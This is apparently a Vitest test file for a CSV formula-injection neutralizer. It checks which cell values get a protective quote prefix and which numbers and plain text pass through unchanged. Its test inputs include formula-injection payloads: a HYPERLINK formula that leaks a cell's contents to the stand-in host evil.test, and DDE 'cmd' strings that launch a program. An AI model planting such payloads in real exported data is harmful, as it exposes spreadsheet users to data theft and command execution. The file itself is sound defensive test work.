import { describe, expect, it } from "vitest";
import { neutralizeCsvFormula } from "./neutralize-csv-formula.js";

describe("neutralizeCsvFormula", () => {
  it.each([
    // formulas and what spreadsheets take for them
    ["=1+2", "'=1+2"],
    ['=HYPERLINK("http://evil.test/?leak="&A1,"click")', '\'=HYPERLINK("http://evil.test/?leak="&A1,"click")'],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ["+SUM(A1:A9)", "'+SUM(A1:A9)"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\t=1+2", "'\t=1+2"],
    ["\r=1+2", "'\r=1+2"],
    ["\uff1d1+2", "'\uff1d1+2"],
    ["+49 30 1234567", "'+49 30 1234567"],
    ["-", "'-"],
    ["--", "'--"],
    ["- a bullet point", "'- a bullet point"],
    // plain numbers stay numbers
    ["-12", "-12"],
    ["-12.5", "-12.5"],
    ["-0.05", "-0.05"],
    ["-3e-7", "-3e-7"],
    ["1e+21", "1e+21"],
    ["-1,250", "-1,250"],
    ["+4930123456", "+4930123456"],
    ["+14155550132", "+14155550132"],
    // text that does not start a formula
    ["", ""],
    ["0.87", "0.87"],
    ["Director of Product", "Director of Product"],
    ["a=b", "a=b"],
    [" =1+2", "' =1+2"],
    ["  @SUM(A1:A9)", "'  @SUM(A1:A9)"],
    ["https://example.com/?a=1", "https://example.com/?a=1"],
    ["'already quoted", "'already quoted"],
  ])("%j -> %j", (text, expected) => {
    expect(neutralizeCsvFormula(text)).toBe(expected);
  });
});
